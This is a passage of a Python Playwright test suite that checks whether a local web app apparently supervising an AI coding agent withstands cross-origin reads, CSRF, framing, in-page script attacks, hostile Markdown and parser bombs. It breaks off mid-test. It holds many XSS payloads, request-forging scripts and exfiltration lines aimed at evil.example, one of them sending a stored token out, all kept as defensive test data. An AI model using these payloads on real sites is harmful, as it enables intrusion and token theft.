"""Attacks on the local page from within a browser: by other pages, scripts of its own, and words.

The other pages come from a small server of the test, under 127.0.0.1 and under localhost: the
latter is the same site as ours, so that the browser sends it our cookie.
"""

from __future__ import annotations

import asyncio
import shlex
from collections.abc import AsyncIterator, Collection, Iterator, Mapping, Sequence
from contextlib import AsyncExitStack, asynccontextmanager
from dataclasses import dataclass, field
from typing import Final

import pytest
import pytest_asyncio
from aiohttp import web
from aiohttp.test_utils import TestServer
from playwright.async_api import Browser, ConsoleMessage, Dialog, Page, Request, Response, expect

from tests import model_script as script
from tests.browsing import VIOLATION, kept_page, new_page, no_problems
from tests.e2e.place import Place, wait_until
from tests.e2e.proposing import Shop, configure, http, repository
from tests.model_server import started
from tests.page_asking import Visit
from tests.page_asking import enter as visit
from tests.page_desk import FILES, SECONDS, enter, png

pytestmark = [
    pytest.mark.thorough,
    pytest.mark.needs("chromium"),
    pytest.mark.needs("git"),
    pytest.mark.needs("bubblewrap"),
    pytest.mark.asyncio(loop_scope="session"),
]

ANYTHING: Final = ("",)  # what a browser says of attacks is no problem of our page
IMG: Final = "<img src=x onerror=window.xss=1>"
SVG: Final = "<svg onload=window.xss=1>"
SCRIPT: Final = "<script>window.xss=1</script>"
FILE: Final = f"{IMG}.py"
INHERITED: Final = ("__proto__", "constructor")  # what every object of a script has
NEW_FILE: Final = f"docs/{SVG}.md"
MARKDOWN: Final = f"""\
# {SCRIPT} heading {IMG}

{SCRIPT}

<div onclick="window.xss=1" style="position:fixed;inset:0">block</div>

<iframe srcdoc="{SCRIPT}"></iframe> <object data="javascript:window.xss=1"></object>

<meta http-equiv="refresh" content="0;url=http://evil.example/"> <base href="http://evil.example/">

<form action="http://evil.example/"><input name=a><button>go</button></form>

{SVG}<a xlink:href="javascript:window.xss=1"><text>svg</text></a></svg>

<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{IMG}">

[script link](javascript:window.xss=1) [upper](JaVaScRiPt:window.xss=1)
[tab](java\tscript:window.xss=1) [entity](java&#115;cript:window.xss=1)
[space]( javascript:window.xss=1)
[data](data:text/html,{SCRIPT}) [vb](vbscript:msgbox) [file](file:///etc/passwd)
[quote](http://evil.example/"onmouseover="window.xss=1)
[title](http://evil.example "x\\" onclick=\\"window.xss=1")
[login](http://localhost@evil.example/) [reference][ref] [<b>bold</b>](javascript:window.xss=1)

[ref]: javascript:window.xss=1 "{IMG}"

<javascript:window.xss=1> <http://evil.example/{SCRIPT}> http://evil.example/auto www.evil.example

![image](http://evil.example/pixel.png) ![x](x" onerror="window.xss=1)
![data](data:image/svg+xml,{SVG})

| {IMG} | {SCRIPT} |
|---|---|
| [x](javascript:window.xss=1) | `{SCRIPT}` |

```html
{SCRIPT}
{IMG}
```

``` {IMG}
fence
```

- [x] {IMG}
- [ ] {SVG}

1. {SCRIPT}

> {IMG}

&lt;script&gt;window.xss=1&lt;/script&gt; &#60;img src=x onerror=window.xss=1&#62;
{"*" * 300}a{"*" * 300} {"[" * 300}x{"]" * 300} {"> " * 60}deep

__proto__ constructor {{{{constructor.constructor('window.xss=1')()}}}} ${{window.xss=1}}
"""
CONTENT: Final = f"{SCRIPT}\n{IMG}\n</code></pre>{SVG}\n"
PLAYBOOK: Final = f"""---
name: hostile
trigger_keywords: ["{IMG}"]
steps:
  - {{name: look, type: tool, tool: list_files, args: {{glob: "**/*"}}, description: "{IMG}"}}
  - {{name: ask, type: gate, message_template: "{SCRIPT} {IMG} {{message}}"}}
---
{SCRIPT}
"""
# What the reader of Markdown has no stack for, or takes time for by the square.
BOMBS: Final[Mapping[str, str]] = {
    "bomb of quotations": f"{'>' * 10_000}the end",
    "bomb of lists": f"{'1. ' * 5_000}the end",
    "bomb of emphasis": f"{'**a *a ' * 2_000}the end{' a* a**' * 2_000}",
    "bomb of squares": f"{'**.a' * 15_000} the end",
}


@dataclass(frozen=True, slots=True)
class Desk:
    """A running installation full of hostile words."""

    shop: Shop
    visit: Visit

    @property
    def place(self) -> Place:
        """The installation."""
        return self.shop.place

    def theme(self) -> str:
        """What the harmless request that changes something has changed."""
        return str(self.visit.get("/api/boot").send().json()["theme"])


@pytest.fixture(scope="module")
def shop(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Shop]:
    folder = tmp_path_factory.mktemp("attacked")
    edit = {"path": NEW_FILE, "action": "create", "content": CONTENT}
    inherited = [{"path": name, "action": "create", "content": "x\n"} for name in INHERITED]
    change = {
        "path": FILE,
        "action": "edit",
        "search": "one = 1",
        "replace": f'one = "{SCRIPT}{IMG}"',
    }
    steps = [
        *(
            script.only(script.text(one, pieces=9), when=name, always=True, asked=True)
            for name, one in BOMBS.items()
        ),
        script.only(
            script.edits(
                MARKDOWN, edit, change, *inherited, commands=[{"command": IMG, "reason": SCRIPT}]
            ),
            when="hostile edits",
            always=True,
            asked=True,
        ),
        script.only(script.text(MARKDOWN), when="explain", always=True, asked=True),
    ]
    with started(folder, *steps, then=script.text(MARKDOWN)) as server:
        place = Place.at(folder / "home")
        workspace = repository(
            folder / "shop-api", {**FILES, FILE: "one = 1\n", "out.txt": CONTENT}
        )
        (workspace / "html.png").write_text(f"<!doctype html>{SCRIPT}", encoding="utf-8")
        (workspace / "drawing.svg").write_text(
            f'<svg xmlns="http://www.w3.org/2000/svg">{SCRIPT}</svg>', encoding="utf-8"
        )
        (workspace / "polyglot.png").write_bytes(png() + f"<html>{SCRIPT}".encode())
        (workspace / IMG).mkdir()
        (workspace / IMG / f"{SVG}.txt").write_text(CONTENT, encoding="utf-8")
        _write_playbooks(place)
        configure(place, {"scripted": http(server, "chat")}, asked="scripted")
        shop = Shop(place, workspace, {})
        try:
            place.start_all(workspace, f"cat out.txt; echo {shlex.quote(IMG)}")
            yield shop
        finally:
            place.stop()


@pytest.fixture(scope="module")
def desk(shop: Shop) -> Desk:
    return Desk(shop, visit(shop.place))


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def ours(shop: Shop, browser: Browser) -> AsyncIterator[Page]:
    """Our page, open in a browser in which others are opened beside it."""
    async with new_page(browser, allowed=ANYTHING) as page:
        await enter(page, shop.place)
        yield page


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def others(ours: Page) -> Mapping[str, Page]:
    """A page for each other host, in the browser that ours is open in."""
    return {host: await ours.context.new_page() for host in HOSTS}


@asynccontextmanager
async def beside(ours: Page, other: Page, at: str) -> AsyncIterator[Page]:
    """Load another page anew beside ours, which is at work before and after."""
    assert await ours.evaluate(PROPER) == 200
    known = set(ours.context.pages)
    await other.goto(at)
    yield other
    assert await ours.evaluate(PROPER) == 200
    for page in set(ours.context.pages) - known:
        await page.close()


def _write_playbooks(place: Place) -> None:
    folder = place.root / "config" / "playbooks"
    folder.mkdir(mode=0o700)
    for name, text in (("hostile", PLAYBOOK), (IMG, "---\nname: [\n---\n")):
        (folder / f"{name}.md").write_text(text, encoding="utf-8")
        (folder / f"{name}.md").chmod(0o600)


@dataclass(frozen=True, slots=True)
class Evil:
    """A server of somebody else's on this machine.

    Attributes:
        seen: The Cookie header of each request that it got.
    """

    port: int
    seen: list[str]

    def at(self, host: str) -> str:
        """Return its page under a name of this machine."""
        return f"http://{host}:{self.port}/"


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def evil() -> AsyncIterator[Evil]:
    seen: list[str] = []

    async def answer(request: web.Request) -> web.Response:
        seen.append(request.headers.get("Cookie", ""))
        return web.Response(text="<!doctype html><title>x</title><body>", content_type="text/html")

    app = web.Application()
    app.router.add_route("*", "/{path:.*}", answer)
    async with TestServer(app, host="127.0.0.1") as server:
        assert server.port is not None
        yield Evil(server.port, seen)


HOSTS: Final = ("127.0.0.1", "localhost")
READS: Final = """\
const read = async (url, options = {}) => {
  try {
    const answer = await fetch(url, options);
    if (answer.type === "opaque" || answer.type === "error") return "refused";
    return `${answer.status} ${(await answer.text()).slice(0, 200)}`;
  } catch { return "refused"; }
};
const loads = (tag, attributes) => new Promise((done) => {
  const made = document.createElement(tag);
  made.onload = made.oncanplay = made.onloadeddata = () => done(`${tag} loaded`);
  made.onerror = () => done("refused");
  Object.assign(made, attributes);
  document.body.append(made);
});
const hears = (path) => new Promise((done) => {
  const heard = new WebSocket(`${at.replace("http", "ws")}${path}`);
  heard.onopen = () => done("open");
  heard.onclose = () => done("refused");
});
const asks = (url) => new Promise((done) => {
  const asked = new XMLHttpRequest();
  asked.withCredentials = true;
  asked.onload = () => done(asked.responseText);
  asked.onerror = () => done("refused");
  asked.open("GET", url);
  asked.send();
});
const beacon = (body) => {
  navigator.sendBeacon(`${at}/api/preferences`, body);
  return pause(300).then(() => "refused");
};
const opens = async (name, look) => {
  const made = window.open(`${at}/`, name);
  await pause(800);
  try { return look(name ? window.open("", name) : made) || "refused"; } catch { return "refused"; }
};
const imports = "try { importScripts('AT/kit/launch.js'); postMessage('loaded') } "
  + "catch { postMessage('refused') }";
const first = (attack) => Promise.race([attack(), pause(20_000).then(() => "neither")])
  .catch((error) => `thrown: ${error}`);
const pause = (ms) => new Promise((done) => setTimeout(done, ms));
const posts = async (type, name, value) => {
  const frame = document.createElement("iframe");
  frame.name = "into";
  const form = document.createElement("form");
  const action = `${at}/api/preferences`;
  Object.assign(form, { method: "POST", enctype: type, target: "into", action });
  const field = document.createElement("input");
  Object.assign(field, { name, value });
  form.append(field);
  document.body.append(frame, form);
  form.submit();
  await pause(400);
  try { return frame.contentDocument.body.innerText || "refused"; } catch { return "refused"; }
};
"""
# Each says what it got; `at` is the origin of our page.
READING: Final[Mapping[str, str]] = {
    "fetch": 'read(`${at}/api/status`, {credentials: "include"})',
    "fetch-no-cors": 'read(`${at}/api/status`, {mode: "no-cors", credentials: "include"})',
    "fetch-page": 'read(`${at}/`, {credentials: "include"})',
    "fetch-asset": 'read(`${at}/app.js`, {credentials: "include"})',
    "fetch-launch": "read(`${at}/launch`)",
    "fetch-with-token": 'read(`${at}/api/status`, {credentials: "include", '
    'headers: {"X-CSRF-Token": "x"}})',
    "fetch-file": 'read(`${at}/api/file?path=README.md`, {credentials: "include"})',
    "xhr": "asks(`${at}/api/status`)",
    "event-source": "new Promise((done) => { const heard = new EventSource(`${at}/api/live`, "
    '{withCredentials: true}); heard.onmessage = () => done("heard"); '
    'heard.onerror = () => { heard.close(); done("refused"); }; })',
    "socket": 'hears("/api/live")',
    "socket-other-path": 'hears("/api/status")',
    "socket-many": 'Promise.all(Array.from({length: 20}, () => hears("/api/live")))'
    ".then((all) => [...new Set(all)].join())",
    "script": 'loads("script", {src: `${at}/app.js`})',
    "script-module": 'loads("script", {type: "module", src: `${at}/kit/kit.js`})',
    "script-of-answers": 'loads("script", {src: `${at}/api/status`})',
    "import": 'import(`${at}/app.js`).then(() => "loaded", () => "refused")',
    "image": 'loads("img", {src: `${at}/icon.svg`})',
    "image-of-a-file": 'loads("img", {src: `${at}/api/image?path=polyglot.png`})',
    "style": 'loads("link", {rel: "stylesheet", href: `${at}/kit/kit.css`})',
    "preload": 'loads("link", {rel: "preload", as: "script", href: `${at}/app.js`})',
    "video": 'loads("video", {src: `${at}/api/image?path=polyglot.png`, preload: "auto"})',
    "font": 'new FontFace("x", `url(${at}/icon.svg)`).load().then(() => "loaded", () => "refused")',
    "worker": "new Promise((done) => { try { const made = new Worker(`${at}/app.js`);"
    ' made.onerror = () => done("refused"); setTimeout(() => done("started"), 800);'
    ' } catch { done("refused"); } })',
    "worker-imports": "new Promise((done) => { const made = new Worker(URL.createObjectURL("
    'new Blob([imports.replace("AT", at)]))); made.onmessage = ({data}) => done(data); })',
    "storage": 'Promise.resolve(localStorage.getItem("token") ?? "refused")',
    "cookie": 'Promise.resolve(document.cookie || "refused")',
    "opened": 'opens("", (made) => made.document.body.innerText)',
    "opened-by-name": 'opens("it", (made) => made.localStorage.getItem("token"))',
}
ACTING: Final[Mapping[str, str]] = {
    "post-json": 'read(`${at}/api/preferences`, {method: "POST", credentials: "include", '
    'headers: {"Content-Type": "application/json"}, body: \'{"theme": "dark"}\'})',
    "post-text": 'read(`${at}/api/preferences`, {method: "POST", mode: "no-cors", '
    'credentials: "include", body: \'{"theme": "dark"}\'})',
    "post-form": 'read(`${at}/api/ask`, {method: "POST", mode: "no-cors", credentials: "include", '
    'body: new URLSearchParams({text: "evil task"})})',
    "post-keepalive": 'read(`${at}/api/ask`, {method: "POST", mode: "no-cors", keepalive: true, '
    'credentials: "include", body: \'{"text": "evil task"}\'})',
    "put": 'read(`${at}/api/preferences`, {method: "PUT", credentials: "include", body: "{}"})',
    "launch": 'read(`${at}/api/launch`, {method: "POST", mode: "no-cors", body: "{}"})',
    "leave": 'read(`${at}/api/leave`, {method: "POST", mode: "no-cors", credentials: "include"})',
    "beacon": 'beacon(\'{"theme": "dark"}\')',
    "beacon-json": "beacon(new Blob(['{\"theme\": \"dark\"}'], {type: 'application/json'}))",
    "form-text": 'posts("text/plain", \'{"theme": "dark", "a": "\', \'"}\')',
    "form-urlencoded": 'posts("application/x-www-form-urlencoded", "theme", "dark")',
    "form-multipart": 'posts("multipart/form-data", "a", \'{"theme": "dark"}\')',
    "opened-and-told": "(async () => { const made = window.open(`${at}/`); await pause(500);"
    ' try { made.postMessage({type: "task"}, "*"); made.location.hash = "#/settings"; } catch { }'
    ' return "refused"; })()',
}
TRIED: Final = ", ".join(f'"{name}": () => {attack}' for name, attack in READING.items())
ALL_AT_ONCE: Final = f"""async (at) => {{
  {READS}
  const tried = Object.entries({{{TRIED}}})
    .map(async ([name, attack]) => [name, await first(attack)]);
  return Object.fromEntries(await Promise.all(tried));
}}"""


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def got(
    desk: Desk, evil: Evil, ours: Page, others: Mapping[str, Page]
) -> Mapping[str, Mapping[str, str]]:
    """What each script that reads got, by host: all of them run at once."""
    await asyncio.to_thread(_set_light, desk)

    async def attack(host: str) -> dict[str, str]:
        return dict(await others[host].evaluate(ALL_AT_ONCE, desk.visit.origin))

    async with AsyncExitStack() as opened:
        for host in HOSTS:
            await opened.enter_async_context(beside(ours, others[host], evil.at(host)))
        found = await asyncio.gather(*map(attack, HOSTS))
        await asyncio.to_thread(_assert_nothing_changed, desk)
    return dict(zip(HOSTS, found, strict=True))


@pytest.mark.requirement("R56")
@pytest.mark.parametrize("host", HOSTS)
@pytest.mark.parametrize("attack", READING)
async def test_a_script_of_another_page_gets_nothing(
    got: Mapping[str, Mapping[str, str]], attack: str, host: str
) -> None:
    assert got[host][attack] == "refused"


@pytest.mark.requirement("R56")
@pytest.mark.parametrize("host", HOSTS)
@pytest.mark.parametrize("attack", ACTING.values(), ids=ACTING)
async def test_a_script_of_another_page_changes_nothing(
    desk: Desk, evil: Evil, ours: Page, others: Mapping[str, Page], attack: str, host: str
) -> None:
    await asyncio.to_thread(_set_light, desk)
    async with beside(ours, others[host], evil.at(host)) as other:
        at = desk.visit.origin
        got = await other.evaluate(f"async (at) => {{ {READS} return await ({attack}); }}", at)
        assert got == "refused"
        await asyncio.to_thread(_assert_nothing_changed, desk)


PROPER: Final = """
fetch("/api/status", {headers: {"X-CSRF-Token": localStorage.getItem("token")}})
  .then((answer) => answer.status)
"""


def _set_light(desk: Desk) -> None:
    assert desk.visit.post("/api/preferences", theme="light").send().status == 200


def _assert_nothing_changed(desk: Desk) -> None:
    assert desk.theme() == "light"
    assert not desk.shop.task("evil")


FRAMED: Final = ("/", "/launch", "/api/status")
FRAMES: Final[Mapping[str, str]] = {
    "iframe": '<iframe src="{at}{path}"></iframe>',
    "iframe-sandboxed": '<iframe sandbox="allow-scripts" src="{at}{path}"></iframe>',
    "iframe-credentialless": '<iframe credentialless src="{at}{path}"></iframe>',
    "object": '<object data="{at}{path}" type="text/html"></object>',
    "embed": '<embed src="{at}{path}" type="text/html">',
    "frameset": '<iframe srcdoc="<frameset><frame src={at}{path}></frameset>"></iframe>',
}


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def framed(
    desk: Desk, evil: Evil, ours: Page, others: Mapping[str, Page]
) -> Mapping[tuple[str, str], Sequence[str]]:
    """What is shown in frames, by host and kind: all of a host's are in one page."""
    found: dict[tuple[str, str], list[str]] = {}
    for host in HOSTS:
        async with beside(ours, others[host], evil.at(host)) as other:
            made = ""
            for name, markup in FRAMES.items():
                parts = (markup.format(at=desk.visit.origin, path=path) for path in FRAMED)
                made += f"<div id={name}>{''.join(parts)}</div>"
            await other.evaluate("made => { document.body.innerHTML = made; }", made)
            await other.wait_for_load_state("networkidle")
            for frame in other.frames[1:]:
                top = frame
                while top.parent_frame not in (None, other.main_frame):
                    top = top.parent_frame
                holder = await top.frame_element()
                name = await holder.evaluate("one => one.closest('div').id")
                text = await frame.evaluate("document.documentElement.innerText")
                found.setdefault((host, name), []).append(text)
    return found


@pytest.mark.requirement("R56")
@pytest.mark.parametrize("host", HOSTS)
@pytest.mark.parametrize("kind", FRAMES)
async def test_the_page_is_shown_in_no_frame(
    framed: Mapping[tuple[str, str], Sequence[str]], kind: str, host: str
) -> None:
    texts = framed.get((host, kind), ())
    assert len(texts) >= len(FRAMED) or kind == "object"  # which is no frame once it is refused
    for text in texts:
        assert "CodexBridge" not in text
        assert "dev-1" not in text


@pytest.mark.requirement("R56")
@pytest.mark.parametrize("host", HOSTS)
@pytest.mark.parametrize("path", ["/", "/api/status", "/api/file?path=README.md", "/launch#x"])
async def test_a_page_cannot_lead_the_person_to_ours(
    desk: Desk, evil: Evil, ours: Page, others: Mapping[str, Page], path: str, host: str
) -> None:
    async with beside(ours, others[host], evil.at(host)) as other:
        async with other.expect_response(lambda one: f":{desk.visit.port}/" in one.url) as found:
            await other.evaluate(
                "to => { setTimeout(() => { location.href = to; }); }", desk.visit.origin + path
            )
        assert (await found.value).status == 403


@pytest.mark.requirement("R56")
async def test_what_another_port_of_the_host_is_sent_is_half_a_session(
    desk: Desk, evil: Evil, browser: Browser
) -> None:
    async with kept_page(browser, allowed=ANYTHING) as page:
        await enter(page, desk.place)
        evil.seen.clear()
        other = await page.context.new_page()
        await other.goto(f"http://localhost:{evil.port}/")
        (cookie,) = [one for one in evil.seen if desk.visit.jar in one][:1]  # browsers do so
        stolen = desk.visit.get().having(Cookie=cookie)
        for token in ("", cookie, cookie.partition("=")[2]):
            assert stolen.having(X_CSRF_Token=token).send().status == 403
        token = await page.evaluate('localStorage.getItem("token")')
        assert stolen.having(X_CSRF_Token=token).send().status == 200


@pytest.mark.requirement("R56")
@pytest.mark.parametrize("path", ["/", "/api", "/api/status", "/api/live"])
async def test_a_cookie_that_another_port_sets_does_not_shut_the_person_out(
    desk: Desk, evil: Evil, ours: Page, others: Mapping[str, Page], path: str
) -> None:
    planted = f"{desk.visit.jar}=x; path={path}"
    async with beside(ours, others["localhost"], evil.at("localhost")) as other:
        await other.evaluate("set => { document.cookie = set; }", planted)
        assert await ours.evaluate(PROPER) == 200
        await ours.reload()
        await expect(ours.locator("header.top")).to_be_visible(timeout=SECONDS)
        await other.evaluate("set => { document.cookie = set; }", f"{planted}; max-age=0")


# -- a script in our own page ---------------------------------------------------------------------

ADD: Final = """
const add = (tag, attributes) =>
  document.body.appendChild(Object.assign(document.createElement(tag), attributes));
"""


# Each with what the policy says of it.
REFUSED: Final[Mapping[str, str]] = {
    "document.body.innerHTML = '<b>x</b>'": "trusted-types-sink Element innerHTML",
    "eval('window.xss = 1')": "trusted-types-sink eval",
    "new Function('window.xss = 1')()": "trusted-types-sink Function",
    "setTimeout('window.xss = 1')": "trusted-types-sink Window setTimeout",
    "document.write('x')": "trusted-types-sink Document write",
    "add('script', {text: 'window.xss = 1'})": "trusted-types-sink HTMLScriptElement text",
    "add('script', {src: 'http://evil.example/x.js'})": "trusted-types-sink HTMLScriptElement src",
    "fetch('http://evil.example/' + localStorage.getItem('token'), {mode: 'no-cors'})": (
        "connect-src http://evil.example/"
    ),
    "new WebSocket('ws://evil.example/')": "connect-src ws://evil.example/",
    "navigator.sendBeacon('http://evil.example/beacon', 'x')": (
        "connect-src http://evil.example/beacon"
    ),
    "new Image().src = 'http://evil.example/x.png'": "img-src http://evil.example/x.png",
    "add('iframe', {src: '/'})": "frame-src http://localhost",
    "add('form', {action: 'http://evil.example/', method: 'post'}).submit()": (
        "form-action http://evil.example/"
    ),
    "add('base', {href: 'http://evil.example/'})": "base-uri http://evil.example/",
    "new Worker(URL.createObjectURL(new Blob(['1'])))": "trusted-types-sink Worker constructor",
    "navigator.serviceWorker.register('/app.js')": (
        "trusted-types-sink ServiceWorkerContainer register"
    ),
    "trustedTypes.createPolicy('mine', {createHTML: (x) => x})": "trusted-types-policy mine",
}


@pytest.mark.requirement("R56")
@pytest.mark.parametrize("attack", REFUSED)
async def test_what_a_script_in_our_page_would_do_the_policy_refuses(
    desk: Desk, ours: Page, attack: str
) -> None:
    away: list[str] = []
    refused: asyncio.Queue[str] = asyncio.Queue()

    def hear_answer(answer: Response) -> None:
        away.append(answer.url)

    def hear_words(said: ConsoleMessage) -> None:
        if said.text.startswith(VIOLATION) and REFUSED[attack] in said.text:
            refused.put_nowait(said.text)

    # Only what gets beyond the policy has a request that the browser begins.
    ours.on("response", hear_answer)
    ours.on("console", hear_words)
    try:
        # Later, as a script of the page: what DevTools evaluate at once is free of the policy.
        await ours.evaluate(
            f"""() => new Promise((done) => setTimeout(async () => {{
              {ADD} try {{ await ({attack}); }} catch {{ }} done(); }}))"""
        )
        await asyncio.wait_for(refused.get(), SECONDS / 1000)
        await ours.wait_for_timeout(100)
        assert await ours.evaluate("window.xss") is None
        assert not [one for one in away if not one.startswith(desk.visit.origin)]
        assert await ours.evaluate("document.baseURI.startsWith(location.origin)")
        assert await ours.evaluate(PROPER) == 200
    finally:
        ours.remove_listener("response", hear_answer)
        ours.remove_listener("console", hear_words)


TRY_ALL: Final = """
async ({task, approval, code}) => {
  const token = localStorage.getItem("token");
  const ops = ["approve", "decide", "reject", "apply", "execute", "confirm", "grant", "run", "yes",
    "rotate", "open_page", "shut_page", "workspaces_changed", "models_test", "diff", "show",
    "follow", "refresh", "status"];
  const verbs = ["narrow", "check", "undo", "want", "retry", "resume", "roll_back", "remind"];
  const body = JSON.stringify({task, approval_id: approval, digest: "0".repeat(64), lang: "en",
    code, typed: code, approve: true, decision: "approve",
    keep: [], hunks: {}});
  const found = [];
  const ask = async (method, path) => {
    const options = {method, headers: {"X-CSRF-Token": token, "Content-Type": "application/json"}};
    if (method !== "GET") options.body = body;
    try {
      const answer = await fetch(path, options);
      if (answer.ok) found.push(`${method} ${path.replace(task, "TASK")}`);
    } catch { }
  };
  // The guard refuses the other methods before it looks at a path.
  const others = ["PUT", "DELETE", "PATCH"];
  for (const method of ["GET", "POST", ...others]) {
    for (const op of others.includes(method) ? ["approve"] : ops) {
      const paths = [`/api/tasks/${task}/${op}`, `/api/jobs/${task}/${op}`, `/api/${op}`,
        `/api/approvals/${approval}/${op}`, `/api/control/${op}`];
      await Promise.all(paths.map((path) => ask(method, path)));
    }
  }
  for (const verb of verbs) await ask("POST", `/api/tasks/${task}/${verb}`);
  for (let n = 0; n < 30; n++) await ask("POST", `/api/tasks/${task}/remind`);
  return [...new Set(found)].sort();
}
"""


@pytest.mark.requirement("P1", "R56")
async def test_no_script_in_our_own_page_can_approve(desk: Desk, browser: Browser) -> None:
    short_id = await asyncio.to_thread(
        desk.shop.ask, "@dev fix the bug in out.txt, hostile edits by script"
    )
    async with kept_page(browser, allowed=("Failed to load resource",)) as page:
        await enter(page, desk.place, f"/tasks/{short_id}")
        shown = await asyncio.to_thread(desk.visit.get(f"/api/tasks/{short_id}").send)
        told = shown.json()
        answered = await page.evaluate(
            TRY_ALL,
            {
                "task": short_id,
                "approval": told["approval"]["approval_id"],
                "code": told["question"]["code"],
            },
        )
    assert set(answered) <= {
        "GET /api/status",
        "POST /api/tasks/TASK/check",  # has a try on a copy asked for, under an approval of its own
        "POST /api/tasks/TASK/remind",
        "POST /api/tasks/TASK/undo",  # a task of its own, which finds nothing to undo
        "POST /api/tasks/TASK/want",  # has it asked for, as it is already
    }
    await asyncio.to_thread(_assert_untouched, desk, short_id)


@pytest.mark.requirement("P1", "R56")
async def test_clicking_all_that_can_be_clicked_approves_nothing(
    desk: Desk, browser: Browser
) -> None:
    short_id = await asyncio.to_thread(
        desk.shop.ask, "@dev fix the bug in out.txt, hostile edits by clicks"
    )
    async with kept_page(browser, allowed=("Failed to load resource",)) as page:
        for path in (f"/tasks/{short_id}", "/approvals"):
            await enter(page, desk.place, path)
            await expect(page.get_by_text(short_id).first).to_be_visible(timeout=SECONDS)
            await page.wait_for_timeout(300)
            clicked = await page.evaluate(CLICK_ALL, "Cancel")
            assert clicked > 3
            await page.wait_for_timeout(500)
        await asyncio.to_thread(_assert_untouched, desk, short_id)
        await enter(page, desk.place, f"/tasks/{short_id}")
        await page.get_by_role("button", name="Cancel").click()
        ended = await asyncio.to_thread(desk.place.final, short_id)
        assert ended["reason"] == "cancelled"
    assert desk.shop.journal("SELECT * FROM effects") == []


CLICK_ALL: Final = """
async (but) => {
  let clicked = 0;
  for (let round = 0; round < 3; round++) {
    for (const one of document.querySelectorAll("button, summary, [role=option], input")) {
      if (one.innerText === but || one.lang) continue;  // nor the one for the other language
      one.click();
      one.dispatchEvent(new KeyboardEvent("keydown", {key: "Enter", bubbles: true}));
      clicked++;
    }
    await new Promise((done) => setTimeout(done, 200));
  }
  return clicked;
}
"""


def _assert_untouched(desk: Desk, short_id: str) -> None:
    (task,) = [one for one in desk.place.tasks() if one["short_id"] == short_id]
    assert task["state"] == "WAITING_APPROVAL"
    assert desk.shop.journal("SELECT * FROM effects") == []
    assert (desk.shop.workspace / FILE).read_text(encoding="utf-8") == "one = 1\n"
    assert not (desk.shop.workspace / NEW_FILE).exists()


# -- hostile words --------------------------------------------------------------------------------


@dataclass  # without slots: Playwright writes to whose method listens
class Watch:
    """What a page does that hostile words may not bring about."""

    page: Page
    origin: str
    requests: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)

    def hear_request(self, request: Request) -> None:
        """Note what is asked of anybody."""
        self.requests.append(request.url)

    def hear_dialog(self, dialog: Dialog) -> None:
        """Note it, and leave it open: the test would wait for it."""
        self.dialogs.append(dialog.message)

    def hear_popup(self, popup: Page) -> None:
        """Note another tab."""
        self.dialogs.append(popup.url)

    async def assert_nothing_happened(self) -> None:
        """Nothing ran, nothing was asked of anybody else, nothing of it became an element."""
        await self.page.mouse.move(300, 300)
        assert await self.page.evaluate("window.xss") is None
        assert self.dialogs == []
        # One of the page's own files, or an image of it that its script had first.
        away = [one for one in self.requests if not one.startswith((self.origin, "blob:"))]
        assert away == []
        assert self.page.url.startswith(self.origin)
        found = await self.page.evaluate(ELEMENTS)
        assert found == []


@asynccontextmanager
async def watched(
    browser: Browser, desk: Desk, *, allowed: Collection[str] = ()
) -> AsyncIterator[tuple[Page, Watch]]:
    """Give an empty page that is watched."""
    async with kept_page(browser, allowed=allowed) as page, watching(page, desk) as watch:
        yield page, watch


@asynccontextmanager
async def watching(page: Page, desk: Desk) -> AsyncIterator[Watch]:
    """Watch a page for a while."""
    watch = Watch(page, desk.visit.origin)
    page.context.on("request", watch.hear_request)
    page.on("dialog", watch.hear_dialog)
    page.on("popup", watch.hear_popup)
    try:
        yield watch
    finally:
        page.context.remove_listener("request", watch.hear_request)
        page.remove_listener("dialog", watch.hear_dialog)
        page.remove_listener("popup", watch.hear_popup)


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def open_page(desk: Desk, browser: Browser) -> AsyncIterator[Page]:
    """Our page, on which one hostile thing is shown after the other."""
    async with kept_page(browser, allowed=ANYTHING) as page:
        await enter(page, desk.place)
        yield page


@asynccontextmanager
async def shown(
    page: Page, desk: Desk, path: str, *, allowed: Collection[str] = ()
) -> AsyncIterator[Watch]:
    """Show a path of it, watched; what failed there is not met by those after it."""
    async with no_problems(page.context, allowed), watching(page, desk) as watch:
        try:
            await page.evaluate("path => { location.hash = path; }", path)
            yield watch
        except BaseException:
            await enter(page, desk.place)
            raise


ELEMENTS: Final = """
() => {
  const wrong = [];
  const all = document.querySelectorAll("*");
  for (const one of all) {
    for (const {name, value} of one.attributes) {
      if (/^on/.test(name)) wrong.push(`${one.tagName} ${name}`);
      if (/^(href|src|action|data|formaction|srcdoc|xlink:href)$/.test(name)
        && !/^(#|\\/|https?:|blob:)/.test(value)) wrong.push(`${one.tagName} ${name}=${value}`);
    }
    if (/^(iframe|object|embed|base|form|meta|math|style)$/i.test(one.tagName)
      && !one.closest("head") && !one.matches("form.composer")) wrong.push(one.tagName);
    if (one.tagName === "A" && /^http/.test(one.getAttribute("href") ?? "")
      && (one.target !== "_blank" || one.rel !== "noopener noreferrer")) wrong.push(one.outerHTML);
    if (one.tagName === "SCRIPT" && !one.src) wrong.push("inline script");
    if (one.tagName === "IMG" && !/^(\\/|blob:)/.test(one.getAttribute("src"))) wrong.push("img");
  }
  return wrong;
}
"""


async def _shows(page: Page, *texts: str) -> None:
    """Wait until a page shows all these texts, as they are."""
    for text in texts:
        await expect(page.locator("#page")).to_contain_text(text, timeout=SECONDS)


@pytest.mark.requirement("R57")
async def test_markdown_of_a_model_is_shown_as_text(desk: Desk, browser: Browser) -> None:
    task = await asyncio.to_thread(desk.shop.answered, f"@dev explain {IMG} {SCRIPT}")
    async with watched(browser, desk) as (page, watch):
        await enter(page, desk.place, f"/tasks/{task['short_id']}")
        await _shows(page, f"explain {IMG} {SCRIPT}", "deep", "fence", "http://evil.example/auto")
        await expect(page.locator(".markdown")).to_contain_text(f"heading {IMG}")
        await expect(page.locator(".markdown")).to_contain_text(SCRIPT)
        await watch.assert_nothing_happened()
        links = await page.eval_on_selector_all(".markdown a", "all => all.map((a) => a.href)")
        assert links
        assert all(
